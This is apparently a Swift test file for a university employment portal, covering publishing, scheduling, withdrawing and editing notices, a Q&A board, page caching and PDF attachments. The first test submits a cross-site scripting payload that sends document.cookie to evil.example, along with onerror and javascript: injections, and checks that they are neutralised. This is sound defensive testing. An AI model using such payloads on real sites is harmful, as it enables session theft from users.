@testable import JiuyeApp
@testable import JiuyeJobCentre
@testable import JiuyePlatform
import Foundation
import JiuyeDomain
import SQLKit
import XCTest
import XCTVapor

/// 通知公告 and 就业网首页 over HTTP: the office publishes (hostile HTML neutralised), schedules,
/// pins and takes down; the portal shows the notice, the jobs and the 就业日历.
final class NoticesPortalTests: XCTestCase {
    var app: Application!

    override func setUp() async throws { app = try await TestApp.make(seeded: true) }
    override func tearDown() async throws { try await app.asyncShutdown() }

    func id(_ title: String) async throws -> Int64 {
        try await app.db.sql.raw("SELECT id FROM notices WHERE title = \(bind: title)").first()!.decode(column: "id", as: Int64.self)
    }

    func testTheOfficePublishesAndThePortalShowsItNeutralised() async throws {
        let office = try await Browser.loggedIn(app, "school")
        let hostile = """
            <p onclick="steal()">即日起启用<strong>新版</strong>就业系统。</p><script>document.location='https://evil.example/?c='+document.cookie</script>\
            <img src=x onerror=alert(1)><a href="javascript:alert(1)">点此</a><a href="https://job.example.edu.cn/guide">使用指南</a>
            """
        let published = try await office.submit("/jobcentre/notices", from: "/jobcentre/notices/new", form: [
            ("category", "通知公告"), ("title", "关于启用新版就业系统的通知"), ("body", hostile), ("publish_at", ""), ("pinned", "1")])
        XCTAssertEqual(published.status, .seeOther, published.body)
        let notice = try await id("关于启用新版就业系统的通知")
        let stored = try await app.db.sql.raw("SELECT body FROM notices WHERE id = \(bind: notice)").first()!.decode(column: "body", as: String.self)
        XCTAssertFalse(stored.contains("script") || stored.contains("onerror") || stored.contains("onclick") || stored.contains("javascript"), stored)

        let visitor = Browser(app)
        let portal = try await visitor.get("/portal")
        XCTAssertEqual(portal.status, .ok)
        XCTAssertTrue(portal.body.contains("关于启用新版就业系统的通知") && portal.body.contains("置顶") && portal.body.contains("就业日历")
                      && portal.body.contains("我是学生") && portal.body.contains("就业导航"), portal.body)
        XCTAssertTrue(portal.body.contains("【通知】关于启用新版就业系统的通知"), "the calendar shows the day's notice")
        let article = try await visitor.get("/news/\(notice)")
        XCTAssertTrue(article.body.contains("<strong>新版</strong>") && article.body.contains("href=\"https://job.example.edu.cn/guide\""), article.body)
        XCTAssertFalse(article.body.contains("evil.example") || article.body.contains("onerror") || article.body.contains("javascript:") || article.body.contains("steal()"),
                       article.body)

        // Bad input, and nobody but the office writes.
        let bad = try await office.submit("/jobcentre/notices", from: "/jobcentre/notices/new", form: [
            ("category", "通知公告"), ("title", "空"), ("body", "<script>x</script>"), ("publish_at", "明天")])
        XCTAssertEqual(bad.status, .unprocessableEntity)
        XCTAssertTrue(bad.body.contains("请填写正文") && bad.body.contains("请选择发布时间"), bad.body)
        let counselor = try await Browser.loggedIn(app, "counselor")
        let refused = try await counselor.submit("/jobcentre/notices", from: "/news", form: [("category", "通知公告"), ("title", "辅导员通知"), ("body", "正文")])
        XCTAssertEqual(refused.status, .notFound)

        // A scheduled notice appears when its time comes.
        let at = ChinaTime.dateTime(app.clock.now() + 2 * 3_600).replacingOccurrences(of: " ", with: "T")
        _ = try await office.submit("/jobcentre/notices", from: "/jobcentre/notices/new", form: [
            ("category", "政策指南"), ("title", "2027 届就业政策解读"), ("body", "<p>政策要点</p>"), ("publish_at", at)])
        let scheduled = try await id("2027 届就业政策解读")
        var early = try await visitor.get("/news/\(scheduled)")
        XCTAssertEqual(early.status, .notFound)
        early = try await visitor.get("/news?category=%E6%94%BF%E7%AD%96%E6%8C%87%E5%8D%97")
        XCTAssertFalse(early.body.contains("2027 届就业政策解读"))
        app.clock.advance(seconds: 3 * 3_600)
        let due = try await visitor.get("/news?category=%E6%94%BF%E7%AD%96%E6%8C%87%E5%8D%97")
        XCTAssertTrue(due.body.contains("2027 届就业政策解读"), due.body)
        let search = try await visitor.get("/news?q=%E6%94%BF%E7%AD%96%E8%A6%81%E7%82%B9")
        XCTAssertTrue(search.body.contains("2027 届就业政策解读"), "searched by its text")

        // Taken down: gone for the public.
        let office2 = try await Browser.loggedIn(app, "school")
        let withdrawn = try await office2.submit("/jobcentre/notices/\(notice)/withdraw", from: "/jobcentre/notices", form: [])
        XCTAssertEqual(withdrawn.status, .seeOther)
        let gone = try await visitor.get("/news/\(notice)")
        XCTAssertEqual(gone.status, .notFound)
        let actions = try await app.db.sql.raw("SELECT action FROM audit_log WHERE action LIKE 'jobcentre.notice%' ORDER BY id").all().map { try $0.decode(column: "action", as: String.self) }
        XCTAssertEqual(actions, ["jobcentre.notice", "jobcentre.notice", "jobcentre.notice-withdraw"])
        let month = try await visitor.get("/portal?month=99999-99")
        XCTAssertEqual(month.status, .ok, "a bad month shows this month")
    }

    /// 就业问答: asked by a student, seen only by the asker and the office until answered, then
    /// public without the asker's name; the student is told.
    func testAQuestionIsAnsweredThenPublic() async throws {
        let student = try await Browser.loggedIn(app, DemoSeed.demoStudentNo)
        let bad = try await student.submit("/jobcentre/questions", from: "/jobcentre/questions", form: [("title", "问"), ("body", "")])
        XCTAssertEqual(bad.status, .unprocessableEntity)
        XCTAssertTrue(bad.body.contains("请用 4 至 60 个字概括你的问题"), bad.body)
        let asked = try await student.submit("/jobcentre/questions", from: "/jobcentre/questions", form: [("title", "三方协议丢了怎么办"), ("body", "签约后遗失了协议书。")])
        XCTAssertEqual(asked.status, .seeOther)
        let id = try await app.db.sql.raw("SELECT id FROM job_questions").first()!.decode(column: "id", as: Int64.self)
        let visitor = Browser(app)
        let hidden = try await visitor.get("/qa/\(id)")
        XCTAssertEqual(hidden.status, .notFound, "not public before it is answered")
        let listed = try await visitor.get("/qa")
        XCTAssertFalse(listed.body.contains("三方协议丢了怎么办"))
        let own = try await student.get("/qa/\(id)")
        XCTAssertTrue(own.status == .ok && own.body.contains("等待就业中心回答"), own.body)
        let counselor = try await Browser.loggedIn(app, "counselor")
        let notOffice = try await counselor.submit("/qa/\(id)/answer", from: "/qa", form: [("answer", "可以补办。")])
        XCTAssertEqual(notOffice.status, .notFound)

        let office = try await Browser.loggedIn(app, "school")
        let queue = try await office.get("/jobcentre/questions/answer")
        XCTAssertTrue(queue.body.contains("三方协议丢了怎么办"), queue.body)
        let short = try await office.submit("/qa/\(id)/answer", from: "/qa/\(id)", form: [("answer", "可")])
        XCTAssertEqual(short.status, .unprocessableEntity)
        let answered = try await office.submit("/qa/\(id)/answer", from: "/qa/\(id)", form: [("answer", "可以补办。\n请带学生证到就业中心。")])
        XCTAssertEqual(answered.status, .seeOther)
        let again = try await office.submit("/qa/\(id)/answer", from: "/qa/\(id)", form: [("answer", "第二个回答")])
        XCTAssertEqual(again.status, .seeOther)
        let stored = try await app.db.sql.raw("SELECT answer FROM job_questions WHERE id = \(bind: id)").first()!.decode(column: "answer", as: String.self)
        XCTAssertEqual(stored, "可以补办。\n请带学生证到就业中心。", "answered once")

        let page = try await visitor.get("/qa/\(id)")
        XCTAssertTrue(page.body.contains("请带学生证到就业中心") && !page.body.contains("张明"), page.body)
        let search = try await visitor.get("/qa?q=%E8%A1%A5%E5%8A%9E")
        XCTAssertTrue(search.body.contains("三方协议丢了怎么办"), "found by its answer")
        let studentID = try await Demo.userID(app, studentNo: DemoSeed.demoStudentNo)
        let told = try await app.db.sql.raw("SELECT COUNT(*) AS n FROM messages WHERE user_id = \(bind: studentID) AND title LIKE '就业问答%'").first()!.decode(column: "n", as: Int.self)
        XCTAssertEqual(told, 1)
    }

    /// Visitors get the portal and the job list from memory for up to a minute (and are told it may
    /// be kept); a logged-in user always gets a fresh page; staff publishing forgets the kept pages.
    func testVisitorsPagesAreKeptForAMinute() async throws {
        let visitor = Browser(app)
        let first = try await visitor.get("/portal")
        XCTAssertEqual(first.status, .ok)
        XCTAssertEqual(first.headers.first(name: .cacheControl), "public, max-age=60")
        let jobs = try await visitor.get("/jobs")
        XCTAssertEqual(jobs.headers.first(name: .cacheControl), "public, max-age=60")
        // A notice written behind the web's back (no staff request): visitors see it within the minute.
        let school = try await Demo.schoolID(app)
        try await app.db.sql.raw("""
            INSERT INTO notices (school_id, category, title, body, summary, publish_at, pinned, created_by, created_at)
            VALUES (\(bind: school), '通知公告', '直接写入的通知', '<p>正文</p>', '正文', \(bind: app.clock.now() - 1), \(bind: false),
                    (SELECT MIN(id) FROM users), \(bind: app.clock.now()))
            """).run()
        let kept = try await visitor.get("/portal")
        XCTAssertFalse(kept.body.contains("直接写入的通知"), "kept")
        let student = try await Browser.loggedIn(app, DemoSeed.demoStudentNo)
        let fresh = try await student.get("/portal")
        XCTAssertTrue(fresh.body.contains("直接写入的通知"), "a logged-in user is never served the kept page")
        XCTAssertEqual(fresh.headers.first(name: .cacheControl), "no-store")
        app.clock.advance(seconds: 61)
        let later = try await visitor.get("/portal")
        XCTAssertTrue(later.body.contains("直接写入的通知"), "stale by at most a minute")

        // Staff publishing shows at once.
        let office = try await Browser.loggedIn(app, "school")
        let published = try await office.submit("/jobcentre/notices", from: "/jobcentre/notices/new", form: [
            ("category", "通知公告"), ("title", "双选会延期通知"), ("body", "<p>延期</p>"), ("publish_at", "")])
        XCTAssertEqual(published.status, .seeOther)
        let now = try await visitor.get("/portal")
        XCTAssertTrue(now.body.contains("双选会延期通知"))
    }

    /// 附件: the office attaches a PDF to a notice through the uploads (checked by content); anyone
    /// downloads it from the published notice; a file of another case or of a withdrawn notice is
    /// not served; nobody but the notice's author attaches.
    func testANoticeCarriesFilesAnyoneDownloads() async throws {
        let root = FileManager.default.temporaryDirectory.appendingPathComponent("jiuye-notice-files-\(UUID().uuidString)")
        app.setUploadStore(DirectoryFileStore(root: root.path))
        defer { try? FileManager.default.removeItem(at: root) }
        let office = try await Browser.loggedIn(app, "school")
        _ = try await office.submit("/jobcentre/notices", from: "/jobcentre/notices/new", form: [
            ("category", "常用下载"), ("title", "就业协议书填写说明"), ("body", "<p>见附件。</p>"), ("publish_at", "")])
        let notice = try await id("就业协议书填写说明")
        let page = try await office.get("/news/\(notice)")
        XCTAssertTrue(page.body.contains("添加附件") && page.body.contains("case=notice:\(notice)"), page.body)
        let pdf = UploadsTests.pdf(4_000, marker: "notice-guide")
        let uploaded = try await office.upload(pdf, name: "填写说明.pdf", contentType: "application/pdf", kind: "other", caseRef: "notice:\(notice)")
        XCTAssertTrue(uploaded.status == .ok || uploaded.status == .created || uploaded.status == .seeOther, uploaded.body)
        let exe = try await office.upload(UploadsTests.exe(2_000), name: "说明.pdf", contentType: "application/pdf", kind: "other", caseRef: "notice:\(notice)")
        XCTAssertGreaterThanOrEqual(exe.status.code, 400, "checked by content, not by name")
        let file = try await app.db.sql.raw("SELECT id FROM uploads WHERE case_type = 'notice' AND case_id = \(bind: notice)").all()
        XCTAssertEqual(file.count, 1)
        let fileID = try file[0].decode(column: "id", as: Int64.self)

        let visitor = Browser(app)
        let article = try await visitor.get("/news/\(notice)")
        XCTAssertTrue(article.body.contains("填写说明.pdf") && article.body.contains("/news/\(notice)/files/\(fileID)") && !article.body.contains("添加附件"), article.body)
        let download = try await visitor.get("/news/\(notice)/files/\(fileID)")
        XCTAssertEqual(download.status, .ok)
        XCTAssertEqual(download.headers.first(name: .contentType), "application/pdf")
        XCTAssertTrue(download.body.contains("notice-guide"), "the file itself")
        XCTAssertTrue(download.headers.first(name: "Content-Disposition")?.hasPrefix("attachment;") == true)
        let r601 = try await visitor.get("/news/\(notice + 1)/files/\(fileID)")
        XCTAssertEqual(r601.status, .notFound, "a file is served only with its own notice")

        // A student cannot attach to the office's notice; a withdrawn notice's files are gone.
        let student = try await Browser.loggedIn(app, DemoSeed.demoStudentNo)
        let r602 = try await student.upload(UploadsTests.pdf(1_000), name: "x.pdf", contentType: "application/pdf", kind: "other", caseRef: "notice:\(notice)")
        XCTAssertEqual(r602.status, .notFound)
        let r603 = try await office.submit("/jobcentre/notices/\(notice)/withdraw", from: "/jobcentre/notices", form: [])
        XCTAssertEqual(r603.status, .seeOther)
        let r604 = try await visitor.get("/news/\(notice)/files/\(fileID)")
        XCTAssertEqual(r604.status, .notFound)
    }

    /// 修改通知: the office corrects a published notice; its time stays; hostile HTML is read
    /// through the allow-list again; the portal shows the correction; a counselor cannot edit.
    func testTheOfficeCorrectsANotice() async throws {
        let office = try await Browser.loggedIn(app, "school")
        _ = try await office.submit("/jobcentre/notices", from: "/jobcentre/notices/new", form: [
            ("category", "通知公告"), ("title", "春季招聘会通知"), ("body", "<p>三月举行。</p>"), ("publish_at", "")])
        let notice = try await id("春季招聘会通知")
        let publishedAt = try await app.db.sql.raw("SELECT publish_at FROM notices WHERE id = \(bind: notice)").first()!.decode(column: "publish_at", as: Int64.self)
        app.clock.advance(seconds: 600)
        let form = try await office.get("/jobcentre/notices/\(notice)/edit")
        XCTAssertTrue(form.body.contains("留空保持不变") && form.body.contains("春季招聘会通知"), form.body)
        let saved = try await office.submit("/jobcentre/notices/\(notice)", from: "/jobcentre/notices/\(notice)/edit", form: [
            ("category", "通知公告"), ("title", "春季招聘会延期通知"), ("body", "<p>改为四月举行。</p><script>alert(1)</script>"), ("publish_at", ""), ("pinned", "1")])
        XCTAssertEqual(saved.status, .seeOther)
        let row = try await app.db.sql.raw("SELECT title, body, publish_at, pinned FROM notices WHERE id = \(bind: notice)").first()!
        XCTAssertEqual(try row.decode(column: "title", as: String.self), "春季招聘会延期通知")
        XCTAssertFalse(try row.decode(column: "body", as: String.self).contains("script"))
        XCTAssertEqual(try row.decode(column: "publish_at", as: Int64.self), publishedAt, "the publishing time stays")
        XCTAssertTrue(try row.decode(column: "pinned", as: Bool.self))
        let portal = try await Browser(app).get("/portal")
        XCTAssertTrue(portal.body.contains("春季招聘会延期通知"), portal.body)
        let bad = try await office.submit("/jobcentre/notices/\(notice)", from: "/jobcentre/notices/\(notice)/edit", form: [
            ("category", "通知公告"), ("title", "空"), ("body", ""), ("publish_at", "")])
        XCTAssertEqual(bad.status, .unprocessableEntity)
        let counselor = try await Browser.loggedIn(app, "counselor")
        let r911 = try await counselor.submit("/jobcentre/notices/\(notice)", from: "/news", form: [("category", "通知公告"), ("title", "辅导员改的"), ("body", "<p>x</p>")])
        XCTAssertEqual(r911.status, .notFound)
        let audits = try await app.db.sql.raw("SELECT COUNT(*) AS n FROM audit_log WHERE action = 'jobcentre.notice-edit'").first()!.decode(column: "n", as: Int.self)
        XCTAssertEqual(audits, 1)
    }
}
